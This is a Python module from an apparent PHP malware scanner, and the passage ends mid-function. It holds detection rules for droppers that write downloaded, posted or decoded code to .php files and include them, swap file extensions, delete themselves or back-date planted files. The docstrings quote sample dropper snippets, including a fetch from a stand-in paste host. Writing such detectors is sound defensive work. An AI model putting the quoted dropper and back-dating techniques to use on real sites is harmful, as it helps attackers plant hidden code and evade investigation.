"""Rules about droppers: downloaded code written to PHP files and included, a data file's
name turned into ``.php``.
"""

from __future__ import annotations

import itertools
import re
from collections.abc import Callable, Iterable, Iterator

from spamtrace.scanner import fold
from spamtrace.scanner.context import (
    EXEC_NAMES_B,
    FETCH_LITERAL,
    FUNC_DEF,
    INCLUDE_LIT,
    INCLUDE_VAR,
    NAME_P,
    PLACEHOLDER,
    SWAP_CALLS,
    TAIL_RHS,
    UIN_RE,
    VAR,
    Ctx,
    Hit,
    appended_path,
    bonus_condition,
    bounded_finditer,
    braced,
    called_any,
    calls_to,
    close_paren,
    excerpt,
    expression,
    feature,
    find_calls,
    first_arg,
    function_bodies,
    function_body,
    function_params,
    has_any,
    interpolated,
    literals_matching,
    opened_for,
    pattern_words,
    per_file,
    prefiltered_finditer,
    prefiltered_search,
    request_input_in_code,
    site_session_gated,
    split_top,
    string_at,
    string_hit,
    string_text,
    top_args,
    var_assigns,
    web_address,
    word_searcher,
    words_finditer,
)
from spamtrace.scanner.features.mailer import _unhide
from spamtrace.scanner.lexer import find
from spamtrace.scanner.rules import Rule
from spamtrace.scanner.rx import tight
from spamtrace.scanner.taint import REQ_RE, posted, taint

_SWAP_ARGS = tight(rb"\s*\x01(\d+)\x01\s*,\s*\x01(\d+)\x01")


_NOT_PHP_EXT = tight(rb"\.(?:txt|jpe?g|gif|png|ico|bmp|dat|bak|tmp|log)")


_PHP_EXT = tight(rb"\.(?:php\d?|phtml|pht)")


_WRITE_CALLS = (b"file_put_contents", b"fwrite", b"fputs", b"copy", b"rename",
                b"move_uploaded_file")  # fmt: skip


@feature("ext_swap_php")
def _ext_swap_php(ctx: Ctx, rule: Rule) -> Hit | None:
    """A file name's .txt/.jpg/... extension replaced by .php in a script that writes files:
    content fetched or uploaded as harmless text is installed as executable PHP."""
    if not has_any(ctx, _WRITE_CALLS):
        return None
    for start, args in calls_to(ctx, SWAP_CALLS, 50):
        m = _SWAP_ARGS.match(args)
        if m is None:
            continue
        old = ctx.lx.value(int(m.group(1))).lower().strip(b"/#~\\$^i")
        new = ctx.lx.value(int(m.group(2))).lower()
        if (
            _NOT_PHP_EXT.fullmatch(old.replace(b"\\", b"")) is not None
            and _PHP_EXT.fullmatch(new) is not None
        ):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


_PHP_PATH = tight(rb"\.(?:php\d?|phtml|pht|phar|inc)$", re.IGNORECASE)


# a double-quoted string that is one variable and nothing else: "$page", "{$page}"
_SOLE_VAR = tight(rb"\s*(?:\$\w+|\{\$\w+\})\s*")


def _sole_variable(ctx: Ctx, expr: bytes) -> bytes:
    """``expr``, or the variable it interpolates when it is a double-quoted string holding
    that variable alone (``"$page"`` is ``$page``: PHP writes the same text)."""
    m = PLACEHOLDER.fullmatch(expr.strip())
    if m is None:
        return expr
    idx = int(m.group(1))
    if idx >= len(ctx.lx.kinds) or ctx.lx.kinds[idx] not in ("dq", "heredoc"):
        return expr
    raw = ctx.lx.raw_strings[idx]
    if _SOLE_VAR.fullmatch(raw) is None:
        return expr
    return raw.strip().strip(b"{}").lower()


def _downloads(ctx: Ctx, expr: bytes) -> bool:
    """``expr`` fetches an http(s) address given as a literal, or is a variable assigned
    such a download (``$d = file_get_contents('http://…');``, ``$d = curl_exec($ch);``),
    given as it is or as a string holding it alone (``"$d"``)."""
    expr = _sole_variable(ctx, expr)
    texts = [expr]
    v = VAR.fullmatch(expr.strip().lstrip(b"@"))
    if v is not None:
        sets = var_assigns(ctx.code, v.group(1), TAIL_RHS, 10)
        texts = [am.group(1) for _, am in sets]
        # the whole statement: a download in a branch of ?: or inside a closure called there
        texts += [_statement(ctx.code, am.start(1)) for _, am in sets[:5]]
    for text in texts:
        for m in FETCH_LITERAL.finditer(text):
            if m.group(1) is None or web_address(ctx, m):
                return True  # curl_exec: a download whatever the address
        if _fetcher_call(ctx, text) or _url_var_read(ctx, text) or _http_context_read(ctx, text):
            return True
    return False


# file_get_contents($u, false, $ctx), file($u, 0, $ctx), fopen($u, 'r', false, $ctx): a read
# of a variable's (or an array element's: $src['url']) address through a stream context (its
# last argument)
_CONTEXT_READ = tight(
    rb"(?<![\w$>:])(?:file_get_contents|file|fopen)\s*\(\s*@?\s*\$\w+(?:\s*\[[^\]\[;]{0,40}\])*\s*,[^;()]{0,60}?,"
    rb"\s*\$(" + NAME_P + rb")\s*\)"
)
_CONTEXT_CREATE = tight(rb"stream_context_create\s*\(([^;]{0,400})")
_HTTP_KEY = tight(rb"\x01(\d+)\x01\s*=>")


def _http_options(ctx: Ctx, text: bytes) -> bool:
    """``text`` (stream options) has an ``'http' =>`` (or https) key given as a literal."""
    return any(
        ctx.lx.value(int(m.group(1))).strip().lower() in (b"http", b"https")
        for m in itertools.islice(_HTTP_KEY.finditer(text), 20)
    )


def _http_context_read(ctx: Ctx, text: bytes) -> bool:
    """``text`` reads a variable's address through a stream context made with ``http``
    options (``$c = stream_context_create(['http' => [...]]); file_get_contents($u, false,
    $c)``): whatever the address, such a read is a web request, a download. A context with
    no http options (a local file's) is not."""
    for m in itertools.islice(_CONTEXT_READ.finditer(text), 5):
        for _, am in var_assigns(ctx.code, m.group(1), TAIL_RHS, 5):
            made = _CONTEXT_CREATE.search(am.group(1))
            if made is None:
                continue
            args = made.group(1)
            if _http_options(ctx, args):
                return True
            opts = VAR.match(args.strip())
            if opts is not None and any(
                _http_options(ctx, _statement(ctx.code, om.start(1)))
                for _, om in var_assigns(ctx.code, opts.group(1), TAIL_RHS, 5)
            ):
                return True
    return False


# file_get_contents($u): a read of a variable's path or address
_READ_VAR = tight(
    rb"(?<![\w$>:])(?:file_get_contents|fopen|file)\s*\(\s*@?\s*\$(" + NAME_P + rb")\s*[,)]"
)
_URL_SCHEMES = (b"http://", b"https://", b"ftp://")


# $GLOBALS['name']: the global $name, read or written from inside a function
_GLOBALS_KEY = tight(rb"\$globals\s*\[\s*\x01(\d+)\x01\s*\]")
_IDENT = tight(rb"[a-z_\x80-\xff][\w\x80-\xff]*")


def _globals_as_vars(ctx: Ctx, text: bytes) -> bytes:
    """``text`` with each ``$GLOBALS['name']`` written as ``$name`` (the code is
    lower-cased, so the key is too): a loader's function reaches the address and the path
    its top level set through $GLOBALS, and they are the same variables."""
    if b"$globals" not in text:
        return text

    def name(m: re.Match[bytes]) -> bytes:
        key = ctx.lx.value(int(m.group(1))).strip().lower()
        return b"$" + key if _IDENT.fullmatch(key) else m.group(0)

    return _GLOBALS_KEY.sub(name, text)


# a host name and a path, without a scheme: 'raw.githubusercontent.com/u/r/main/x.php'
# (fetched by curl, or by file_get_contents where the script adds the scheme); the last label
# must be a common top-level domain, so that 'cache.tmp/x' or 'lib.inc/x' is no address
_BARE_URL = tight(
    rb"(?:[a-z0-9-]+\.)+(?:com|net|org|io|xyz|info|top|ru|cn|me|co|biz|site|online|pw|cc|tk|"
    rb"ml|us|uk|de|in|id|br|vn|ir|club|live|shop|app|dev|ws|su|cloud)/"
)


def _url_var_read(ctx: Ctx, text: bytes) -> bool:
    """``text`` reads a variable whose value the constant folder gives as a web address
    (``$u = 'https://paste.example/raw/' . 'Xk3'; ... file_get_contents($u)``), the variable
    also read as ``$GLOBALS['u']`` and the address also written without its scheme."""
    for m in itertools.islice(_READ_VAR.finditer(_globals_as_vars(ctx, text)), 5):
        held = fold.Env(ctx.code, ctx.lx, ctx.cache).get(m.group(1), len(ctx.code))
        if held is None:
            continue
        address = held[0].strip().lower()
        if address.startswith(_URL_SCHEMES) or _BARE_URL.match(address) is not None:
            return True
    return False


def _statement(code: bytes, start: int, limit: int = 1500) -> bytes:
    """The text from ``start`` to the end of its statement: the first ";" outside
    parentheses and braces (a closure's body is part of it), at most ``limit`` bytes."""
    depth = 0
    end = min(len(code), start + limit)
    for i in range(start, end):
        c = code[i]
        if c in (40, 91, 123):
            depth += 1
        elif c in (41, 93, 125):
            depth -= 1
            if depth < 0:
                return code[start:i]
        elif c == 59 and depth == 0:
            return code[start:i]
    return code[start:end]


# a call with a literal first argument: name(<literal>
_CALL_LITERAL = tight(rb"(?<![\w$>:\\])([a-z_\x80-\xff][\w\x80-\xff]*)\s*\(\s*\x01(\d+)\x01")
# a function body that downloads what it is given: curl_exec(), or a read of a variable's
# address (file_get_contents($url), fopen($u, 'r'), file($u))
_FETCH_BODY = tight(rb"curl_exec\s*\(|(?:file_get_contents|fopen|file|readfile)\s*\(\s*\$")


# a call of a function by name: name(
_CALL_NAME = tight(rb"(?<![\w$>:\\])([a-z_\x80-\xff][\w\x80-\xff]*)\s*\(")


def _helper_download(ctx: Ctx, expr: bytes) -> bool:
    """``expr`` is a variable assigned what a downloading function of this file returns,
    whatever address it was given (``$c = get_remote_content($url_from_cookie);``): where
    the result is then written to a file and included, the address does not matter."""
    v = VAR.fullmatch(expr.strip().lstrip(b"@"))
    if v is None or ctx.first(b"function") < 0:
        return False
    for _, am in var_assigns(ctx.code, v.group(1), TAIL_RHS, 10):
        m = _CALL_NAME.match(am.group(1).strip().lstrip(b"@"))
        if m is None:
            continue
        body = function_body(ctx, m.group(1))
        if body is not None and _FETCH_BODY.search(body) is not None:
            return True
    return False


def _fetcher_call(ctx: Ctx, text: bytes) -> bool:
    """``text`` gives a web address to a function of this file that downloads
    (``function http_get($u) { ...; return curl_exec($ch); }`` then
    ``$page = http_get('http://…')``): droppers wrap curl in a helper of their own."""
    if ctx.first(b"function") < 0:
        return False
    for m in itertools.islice(_CALL_LITERAL.finditer(text), 10):
        if not web_address(ctx, PLACEHOLDER.match(text, m.start(2) - 1)):
            continue
        body = function_body(ctx, m.group(1))
        if body is not None and _FETCH_BODY.search(body) is not None:
            return True
    return False


# $h = fopen(<path ending with a literal>, <literal mode>)
_FOPEN_PATH = tight(
    rb"\$(\w+)\s*=\s*@?\s*fopen\s*\([^;]{0,200}?\x01(\d+)\x01\s*,\s*\x01(\d+)\x01\s*\)"
)


# $h = fopen($path, <literal mode>)
_FOPEN_VAR = tight(rb"\$(\w+)\s*=\s*@?\s*fopen\s*\(\s*\$(\w+)\s*,\s*\x01(\d+)\x01\s*\)")


def _php_handles(ctx: Ctx) -> set[bytes]:
    """Variables holding a file opened for writing whose path ends with a PHP extension:
    written as a literal (``fopen('x.php', 'w')``) or a variable whose value's last literal
    is (``$p = $_SERVER['DOCUMENT_ROOT'] . '/tmp/x.php'; $h = fopen($p, 'w')``)."""
    value = ctx.lx.value
    found = {
        m.group(1)
        for m in itertools.islice(_FOPEN_PATH.finditer(ctx.code), 50)
        if _PHP_PATH.search(value(int(m.group(2))).strip()) is not None
        and value(int(m.group(3)))[:1] in (b"w", b"a", b"x", b"c")
    }
    for m in itertools.islice(_FOPEN_VAR.finditer(ctx.code), 50):
        if value(int(m.group(3)))[:1] not in (b"w", b"a", b"x", b"c"):
            continue
        for _, am in var_assigns(ctx.code, m.group(2), TAIL_RHS, 5):
            lits = PLACEHOLDER.findall(am.group(1))
            if lits and _PHP_PATH.search(value(int(lits[-1])).strip()) is not None:
                found.add(m.group(1))
                break
    return found


def _php_dest(ctx: Ctx, target: bytes, start: int) -> bool:
    """``target`` (a path expression) ends with a PHP extension given as a literal, or is a
    variable whose last value before ``start`` does."""
    value = ctx.lx.value
    dest = [value(int(i)) for i in PLACEHOLDER.findall(target)]
    tv = VAR.fullmatch(target.strip().lstrip(b"@"))
    if not dest and tv is not None:  # $dst = $root . '/uploads/.cache.php'
        sets = var_assigns(ctx.code[:start], tv.group(1), TAIL_RHS, 5)
        if sets:
            dest = [value(int(i)) for i in PLACEHOLDER.findall(sets[-1][1].group(1))]
    return bool(dest) and _PHP_PATH.search(dest[-1].strip()) is not None


@feature("remote_php_write")
def _remote_php_write(ctx: Ctx, rule: Rule) -> Hit | None:
    """Content downloaded from a web address written into a ``.php`` file
    (``file_put_contents('x.php', file_get_contents('http://…'))``, through a variable, or
    ``copy('http://…', 'x.php')``): a dropper that installs the operator's code."""
    handles = _php_handles(ctx) if has_any(ctx, (b"fwrite", b"fputs")) else {}
    if handles:  # $h = fopen('…/x.php', 'w'); fwrite($h, $downloaded)
        for start, args in calls_to(ctx, (b"fwrite", b"fputs"), 50):
            parts = top_args(args)
            if len(parts) < 2:
                continue  # fwrite($h) alone: nothing written (parts[1] raised IndexError)
            h = VAR.fullmatch(parts[0].strip())
            if h is None or h.group(1) not in handles:
                continue
            content = expression(parts[1])
            if _downloads(ctx, content) or posted(ctx, content):
                return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    for start, args in calls_to(ctx, (b"file_put_contents", b"copy"), 50):
        parts = top_args(args)
        if len(parts) < 2:
            continue
        is_copy = ctx.code.startswith(b"copy", start)
        if not _php_dest(ctx, parts[1 if is_copy else 0], start):
            continue  # the path does not end with a PHP extension given as a literal
        if is_copy:
            remote = web_address(ctx, PLACEHOLDER.match(parts[0].strip()))
        else:
            content = expression(parts[1])
            remote = _downloads(ctx, content) or posted(ctx, content)
        if remote:
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None


# $h = fopen($path, …), fopen('path', …) or fopen($GLOBALS['path'], …)
_OPEN_FOR_WRITE = tight(
    rb"\$(\w+)\s*=\s*@?\s*fopen\s*\(\s*(\$globals\s*\[\s*\x01\d+\x01\s*\]|\$\w+|\x01\d+\x01)\s*,"
)
# $h = fopen(<a path joined of variables and literals>, …): $dir . $sep . $name, $d . '/x.jpg'
_OPEN_JOINED = tight(rb"\$(\w+)\s*=\s*@?\s*fopen\s*\(")
_BLANKS = frozenset(b" \t\n\r\x0b\x0c")  # \s of a bytes pattern
_WORD_BYTES = frozenset(b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_")


def _fopen_assigns(rx: re.Pattern[bytes], code: bytes) -> Iterator[re.Match[bytes]]:
    """``rx.finditer(code)`` for :data:`_OPEN_FOR_WRITE` and :data:`_OPEN_JOINED`, whose
    every match starts ``$name = @ fopen``: the pattern is matched only at the "$" that each
    "fopen" of the code has before it that way (read back over blanks, an "@", "=" and the
    name), not tried at every "$" of a large file by the regex engine. The name before "="
    is the longest run of name bytes there, as the pattern's greedy ``\\w+`` takes it."""
    pos = 0
    at = find(code, b"fopen")
    while at >= 0:
        i = at
        while i > pos and code[i - 1] in _BLANKS:
            i -= 1
        if i > pos and code[i - 1] == 64:  # "@"
            i -= 1
            while i > pos and code[i - 1] in _BLANKS:
                i -= 1
        m = None
        if i > pos and code[i - 1] == 61:  # "="
            i -= 1
            while i > pos and code[i - 1] in _BLANKS:
                i -= 1
            name = i
            while name > pos and code[name - 1] in _WORD_BYTES:
                name -= 1
            if name < i and name > pos and code[name - 1] == 36:  # "$"
                m = rx.match(code, name - 1)
        if m is not None:
            yield m
            pos = m.end()
            at = find(code, b"fopen", max(pos, at + 1))
        else:
            at = find(code, b"fopen", at + 1)
# a path joined with "." of variables, literals, __DIR__ and dirname(__FILE__) (at least one
# join)
_PATH_PART = rb"(?:\$\w+|\x01\d+\x01|__dir__|dirname\s*\(\s*__file__\s*\))"
_JOINED_PATH = tight(_PATH_PART + rb"(?:\s*\.\s*" + _PATH_PART + rb")+")
# include / require (_once), and where its argument starts
_INCLUDE_AT = tight(rb"(?<![\w$>:])(?:include|require)(?:_once)?\b\s*")
_SPACE = tight(rb"\s+")


def _joined_key(ctx: Ctx, path: bytes) -> bytes:
    """A joined path as one key: spaces taken out, each literal written as its text (two
    copies of '/' are two literals of the code)."""
    value = ctx.lx.value
    return PLACEHOLDER.sub(
        lambda q: b"'" + value(int(q.group(1))) + b"'", _SPACE.sub(b"", path)
    )


def _joined_includes(ctx: Ctx) -> set[bytes]:
    """The arguments of the file's includes that are paths joined of variables and literals
    (``include_once($wd . $DS . $zfn)``), as :func:`_joined_key` writes them."""
    code = ctx.code
    found: set[bytes] = set()
    for m in itertools.islice(_INCLUDE_AT.finditer(code), 200):
        rest = code[m.end() : m.end() + 300]
        # include($path); or include $path;
        arg = rest[1 : 1 + close_paren(rest[1:])] if rest[:1] == b"(" else expression(rest)
        arg = arg.strip().lstrip(b"@").strip()
        if _JOINED_PATH.fullmatch(arg) is not None:
            found.add(_joined_key(ctx, arg))
    return found


def _joined_opens(ctx: Ctx) -> list[tuple[int, bytes, bytes]]:
    """(where, handle variable, path) of each ``$h = fopen(<joined path>, …)``."""
    code = ctx.code
    found = []
    for m in itertools.islice(_fopen_assigns(_OPEN_JOINED, code), 200):
        rest = code[m.end() : m.end() + 300]
        parts = top_args(rest[: close_paren(rest)])
        if len(parts) >= 2 and _JOINED_PATH.fullmatch(parts[0].strip()) is not None:
            found.append((m.start(), b"$" + m.group(1), parts[0].strip()))
    return found


_DECODER_CALL = tight(
    rb"(?<![\w$>:])(?:base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|hex2bin|"
    rb"convert_uudecode|bzdecompress)\s*\("
)


def _decoded(ctx: Ctx, content: bytes) -> bool:
    """Whether ``content`` (an expression's text) is decoded data: a decoder's call, or a
    variable the taint pass saw given decoded data by a decoder's call (not one merely glued
    from literals: config writers build '<?php ' . ... and include it)."""
    if _DECODER_CALL.search(content) is not None:
        return True
    names = VAR.findall(content)
    if not names:
        return False
    dec = taint(ctx)[1]
    return any(
        _DECODER_CALL.search(m.group(1)) is not None
        for name in names[:6]
        if name in dec
        for _, m in var_assigns(ctx.code, name, TAIL_RHS, 10)
    )


@feature("remote_code_include")
def _remote_code_include(ctx: Ctx, rule: Rule) -> Hit | None:
    """Content downloaded from a web address, posted by the visitor (as it came or
    decoded), or decoded from the script's own literals, written to a file, and that file
    then included: ``file_put_contents($t,
    file_get_contents('http://…')); include $t;`` (a temporary file, so that no .php name
    shows), or the same through ``$h = fopen('/tmp/x', 'w'); fwrite($h, $code);``. The
    path is a variable or a literal, the same at the write and at the include. The
    operator's code runs, whatever the file is called."""
    return _written_then_included(
        ctx,
        lambda content: _downloads(ctx, content)
        or posted(ctx, content)
        or _decoded(ctx, content)
        or _helper_download(ctx, content),
    )


def _written_then_included(ctx: Ctx, payload: Callable[[bytes], bool]) -> Hit | None:
    """The first write (file_put_contents, or fwrite/fputs to a handle fopen() opened) of
    content ``payload`` accepts to a path that the script then includes: the same variable
    or literal at the write and at the include, or a path joined alike of variables and
    literals."""
    code = ctx.code
    value = ctx.lx.value
    targets: set[bytes] | None = None  # what is included: "$name", or a literal path's value
    opened: list[tuple[int, bytes, bytes]] | None = None  # (where, handle variable, path)
    joined: set[bytes] | None = None  # includes of joined paths, spaces taken out
    for start, args in calls_to(ctx, (b"file_put_contents", b"fwrite", b"fputs"), 50):
        parts = top_args(args)
        if len(parts) < 2:
            continue
        # where it writes first, what it writes last: the content's tests (a download, request
        # input, a decoder: the taint pass) are asked only of a write to a path included
        dest = _globals_as_vars(ctx, parts[0].strip())
        if not code.startswith(b"file_put_contents", start):  # a handle: the path it opened
            if opened is None:  # the last fopen() of that handle before the write
                opened = [
                    (m.start(), b"$" + m.group(1), _globals_as_vars(ctx, m.group(2)))
                    for m in itertools.islice(_fopen_assigns(_OPEN_FOR_WRITE, code), 200)
                ]
                opened = sorted(opened + _joined_opens(ctx))
            dest = next(
                (path for at, h, path in reversed(opened) if h == dest and at < start), b""
            )
        literal = PLACEHOLDER.fullmatch(dest)
        if literal is not None:
            dest = value(int(literal.group(1))).strip()
        elif VAR.fullmatch(dest) is None:
            # a path joined of variables and literals ($dir . $sep . $name): the same
            # joining, written alike, at the include
            if _JOINED_PATH.fullmatch(dest) is None:
                continue
            if joined is None:
                joined = _joined_includes(ctx)
            if _joined_key(ctx, dest) in joined and payload(expression(parts[1])):
                return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
            continue
        if targets is None:  # the include rules' own patterns: of a variable, of a literal
            targets = {b"$" + m.group(1) for m in bounded_finditer(INCLUDE_VAR, code, 200)}
            targets.update(
                value(int(m.group(1))).strip() for m in bounded_finditer(INCLUDE_LIT, code, 200)
            )
        if dest in targets and payload(expression(parts[1])):
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 100))
    return None



# file_get_contents(<one variable>), or of a double-quoted string holding it alone ("$src")
_READ_ONE = tight(rb"@?\s*file_get_contents\s*\(\s*@?\s*(\$\w+|\x01\d+\x01)\s*\)")
_PARAMS = tight(rb"(?<![\w$>:])(?:function|fn)\b[^;{]{0,120}?\(([^)]{0,300})\)")
_USE_LIST = tight(rb"\)\s*use\s*\(([^)]{0,300})\)")


def _given_otherwise(ctx: Ctx, name: bytes) -> bool:
    """``$name`` gets a value some other way than ``$name = …``: it is a function's or
    closure's parameter (or a closure's ``use``), a foreach's key or value, a ``static``,
    taken apart into by list()/[...] =, or a caught exception. ``global $name`` gives it no
    value: a function reaches the same variable an included file set."""
    code = ctx.code
    var = re.escape(b"$" + name) + rb"(?!\w)"
    for pattern in (_PARAMS, _USE_LIST):
        for m in itertools.islice(pattern.finditer(code), 300):
            if re.search(var, m.group(1)) is not None:
                return True
    return (
        re.search(rb"\bas\s*(?:&?\s*\$\w+\s*=>\s*)?&?\s*" + var, code) is not None
        or re.search(rb"\bstatic\s[^;]{0,200}?" + var, code) is not None
        or re.search(rb"\blist\s*\([^;]{0,200}?" + var, code) is not None
        or re.search(rb"\[[^\];]{0,200}?" + var + rb"[^\];]{0,200}\]\s*=(?![=>])", code)
        is not None
        or re.search(rb"\bcatch\s*\([^)]{0,120}?" + var, code) is not None
    )


def _foreign(ctx: Ctx, name: bytes, depth: int = 0) -> bool:
    """``$name`` holds nothing this file sets: no assignment of it here gives it a value of
    the file's own (each one, if any, copies another such variable, ``$f = "$get_ip"``),
    and nothing else here (a parameter, a loop, global...) gives it one: its value comes
    from a file that was included, the address a kit's seller keeps in another file."""
    if depth > 2 or name in (b"this", b"globals") or name.startswith(b"_"):
        return False
    if _given_otherwise(ctx, name):
        return False
    for _, am in var_assigns(ctx.code, name, TAIL_RHS, 10):
        rhs = _sole_variable(ctx, am.group(1).strip().lstrip(b"@"))
        other = VAR.fullmatch(rhs.strip())
        if other is None or not _foreign(ctx, other.group(1), depth + 1):
            return False
    return True


def _foreign_read(ctx: Ctx, content: bytes) -> bool:
    """``content`` is ``file_get_contents()`` of a variable this file never gives a value
    (:func:`_foreign`), directly or through a variable assigned that read."""
    texts = [content.strip()]
    v = VAR.fullmatch(content.strip().lstrip(b"@"))
    if v is not None:
        texts = [am.group(1).strip() for _, am in var_assigns(ctx.code, v.group(1), TAIL_RHS, 5)]
    for text in texts:
        m = _READ_ONE.fullmatch(text)
        if m is None:
            continue
        src = VAR.fullmatch(_sole_variable(ctx, m.group(1)).strip())
        if src is not None and _foreign(ctx, src.group(1)):
            return True
    return False


@feature("foreign_fetch_include")
def _foreign_fetch_include(ctx: Ctx, rule: Rule) -> Hit | None:
    """What ``file_get_contents()`` reads from an address this file never sets (a variable
    an included file defines, or one only copied from such a variable:
    ``$function = "$get_ip"; file_put_contents('function.php',
    file_get_contents($function)); require_once 'function.php';``) written to a file the
    script then includes: code from a source kept out of sight, run through a file. A
    local file's copy made from a path the script names (a sample config copied into
    place), a loop's or a function's parameter's file, is not counted."""
    if ctx.first(b"file_get_contents") < 0:
        return None
    return _written_then_included(ctx, lambda content: _foreign_read(ctx, content))

# the script's own file: __FILE__, basename/realpath of it, $_SERVER['SCRIPT_FILENAME']...
_SELF_DELETE = tight(
    rb"unlink\s*\(\s*@?\s*(?:__file__|(?:basename|realpath)\s*\(\s*__file__\s*\)|"
    rb"\$_server\s*\[\s*\x01(\d+)\x01\s*\])\s*\)"
)
_SELF_KEYS = frozenset({b"script_filename", b"php_self", b"script_name"})
# a time taken from another file or written as a date or a number: back-dating
_BACKDATE = tight(rb"filemtime|filectime|fileatime|strtotime|mktime|stat\s*\(|^\s*\d{9,10}\b")


_MTIME_OF = tight(rb"filemtime\s*\(\s*(.{1,120}?)\s*\)\s*$", re.DOTALL)


def _copy_source_time(ctx: Ctx, when: bytes) -> bool:
    """``filemtime($src)`` where ``$src`` is what the script copies from: a copy keeps its
    source's time (updaters, backups), that is not back-dating."""
    m = _MTIME_OF.search(when.strip())
    if m is None:
        return False
    src = m.group(1).strip()
    return any(
        top_args(args)[0].strip() == src for _start, args in calls_to(ctx, (b"copy",), 20)
    )


# register_shutdown_function('unlink', __FILE__): the script deleted when it ends
_SHUTDOWN_UNLINK = tight(
    rb"register_shutdown_function\s*\(\s*\x01(\d+)\x01\s*,\s*@?\s*(?:__file__|"
    rb"\$_server\s*\[\s*\x01(\d+)\x01\s*\])\s*\)"
)


def _self_delete(ctx: Ctx) -> int:
    for m in bounded_finditer(_SELF_DELETE, ctx.code, 20, first=ctx.first):
        key = m.group(1)
        if key is None or ctx.lx.value(int(key)).strip().lower() in _SELF_KEYS:
            return m.start()
    if find(ctx.code, b"register_shutdown_function") >= 0:
        for m in itertools.islice(_SHUTDOWN_UNLINK.finditer(ctx.code), 5):
            key = m.group(2)
            if ctx.lx.value(int(m.group(1))).strip().lower() == b"unlink" and (
                key is None or ctx.lx.value(int(key)).strip().lower() in _SELF_KEYS
            ):
                return m.start()
    return -1


@feature("self_delete_backdate")
def _self_delete_backdate(ctx: Ctx, rule: Rule) -> Hit | None:
    """A script that sets a file's modification time to an old date (another file's, a
    written date or number: ``touch($f, filemtime('index.php'))``) and deletes itself
    (``unlink(__FILE__)``): an anti-forensic dropper that plants a file, makes it look as old
    as its neighbours and leaves no trace of how it came. Installers that remove themselves
    do not back-date files; caches that set times do not delete themselves."""
    touches = calls_to(ctx, (b"touch",), 20)
    if not touches:
        return None
    code = ctx.code
    for start, args in touches:
        parts = top_args(args)
        if len(parts) < 2:
            continue
        when = parts[1]
        v = VAR.fullmatch(when.strip())
        if v is not None:  # a variable set from filemtime(...) and the like
            rhs = var_assigns(code, v.group(1), TAIL_RHS, 5)
            when = b" ".join(m.group(1) for _, m in rhs)
        if _BACKDATE.search(when) is None or _copy_source_time(ctx, when):
            continue
        gone = _self_delete(ctx)
        if gone >= 0:
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
        return None
    return None


_DROP_WRITES = (b"file_put_contents", b"copy", b"fwrite", b"fputs")
# a time read from a file: another file's, a neighbour's (filemtime, stat()['mtime'])
_FILE_TIME = tight(rb"(?<![\w$>:])(?:filemtime|filectime|fileatime|l?stat)\s*\(")


def _written_path(ctx: Ctx, start: int, args: bytes) -> tuple[bytes, bool] | None:
    """The path a write call at ``start`` writes and whether what it writes was dropped
    there (decoded data, a download, what the visitor posted; a copy of a web address):
    ``file_put_contents``, ``copy``, ``fwrite``/``fputs`` through a handle that ``fopen``
    opened on the path."""
    code = ctx.code
    parts = top_args(args)
    if len(parts) < 2:
        return None
    if code.startswith(b"copy", start):
        lit = PLACEHOLDER.match(parts[0].strip().lstrip(b"@"))
        return _norm(ctx, parts[1]), web_address(ctx, lit) or _downloads(ctx, parts[0])
    content = expression(parts[1])
    dropped = _decoded(ctx, content) or _downloads(ctx, content) or posted(ctx, content)
    if code.startswith(b"file_put_contents", start):
        return _norm(ctx, parts[0]), dropped
    h = VAR.fullmatch(parts[0].strip())
    if h is None:
        return None
    # the fopen() of the handle, in the 4,000 bytes before the write (a bounded search: a
    # padded file's writes are not each searched back to its start)
    found = None
    for m in itertools.islice(_OPEN_FOR_WRITE.finditer(code, max(0, start - 4000), start), 50):
        if m.group(1) == h.group(1):
            found = m  # the last opened before the write
    return None if found is None else (_norm(ctx, found.group(2)), dropped)


# a time read from a file: filemtime($f), stat($f) (whose mtime is then taken)
_TIME_READ = tight(
    rb"^@?\s*(?:filemtime|filectime|fileatime|stat|lstat)\s*\(\s*(.{1,200}?)\s*\)", re.DOTALL
)
_RUNS_OR_RENAMES = (b"include", b"include_once", b"require", b"require_once", b"rename", b"copy")
# names of files that hold data, not code a server runs
_DATA_EXT = tight(rb"\.(?:xml|json|csv|log|cache|dat|txt|rss|sqlite|db)$")


def _data_file(ctx: Ctx, expr: bytes, before: int) -> bool:
    """Whether the path expression ``expr`` (or the value its variable was last set to
    before ``before``) ends with a literal naming a data file (feed.xml, rates.json)."""
    texts = [expr.strip()]
    var = re.fullmatch(rb"@?\$(" + NAME_P + rb")", expr.strip())
    if var is not None:
        found = var_assigns(ctx.code[:before], var.group(1), _ITEM_RHS, 5)
        if found:
            texts.append(found[-1][1].group(1).strip())
    for t in texts:
        last = list(PLACEHOLDER.finditer(t))
        if (
            last
            and last[-1].end() == len(t.rstrip())
            and _DATA_EXT.search(ctx.lx.value(int(last[-1].group(1))).strip().lower())
        ):
            return True
    return False


@feature("dropped_backdate")
def _dropped_backdate(ctx: Ctx, rule: Rule) -> Hit | None:
    """A file the script has just filled with dropped content (decoded data, a download,
    what the visitor posted) given another file's time with ``touch()`` (``touch($f,
    filemtime('wp-includes/version.php'))``, ``$st = stat('index.php'); touch($f,
    $st['mtime'])``): a planted file back-dated to its neighbours' age, so that no one
    looking for recently changed files finds it. A copy that keeps its source's time, a
    build step that dates its output like its source (the output is not dropped content)
    and a mirror that keeps a download's Last-Modified date (not another file's) are not
    counted."""
    code = ctx.code
    for start, args in calls_to(ctx, (b"touch",), 20):
        parts = top_args(args)
        if len(parts) < 2:
            continue
        when = parts[1].strip()
        texts = [when]
        for v in itertools.islice(VAR.finditer(when), 4):
            texts += [m.group(1) for _, m in var_assigns(code[:start], v.group(1), _ITEM_RHS, 5)]
        if not any(_FILE_TIME.search(t) is not None for t in texts) or _copy_source_time(
            ctx, when
        ):
            continue
        dest = _norm(ctx, parts[0])
        # the file's own time, read before it was rewritten (a restore keeps it): no other's
        own_time = any(
            (own := _TIME_READ.search(t.strip())) is not None and _norm(ctx, own.group(1)) == dest
            for t in texts
        )
        # a data file (a feed cache dated like the settings it depends on) runs nothing,
        # unless the script includes or renames a file (a .txt run by include is code)
